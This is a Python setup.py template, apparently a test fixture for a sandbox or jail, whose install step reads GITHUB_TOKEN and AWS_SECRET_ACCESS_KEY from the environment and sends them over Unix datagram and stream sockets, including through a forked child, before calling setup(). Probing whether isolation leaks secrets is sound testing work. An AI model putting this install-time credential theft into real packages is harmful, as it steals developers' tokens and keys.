import os
import socket

# Host services listen on pathname sockets (an agent, a logger, a docker
# daemon) in directories a jail may show: whatever arrives there left it.
msg = ("m=@@MARK@@ g=%s a=%s\n" % (os.environ.get("GITHUB_TOKEN"),
                                   os.environ.get("AWS_SECRET_ACCESS_KEY"))).encode()
try:
    d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    d.sendto(msg, "@@UDGRAM@@")
except OSError:
    pass
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("@@USTREAM@@")
    # A sibling forked on the connected socket: it made no connect of its own.
    if os.fork() == 0:
        try:
            s.sendall(b"sibling " + msg)
        finally:
            os._exit(0)
    s.sendall(msg)
except OSError:
    pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
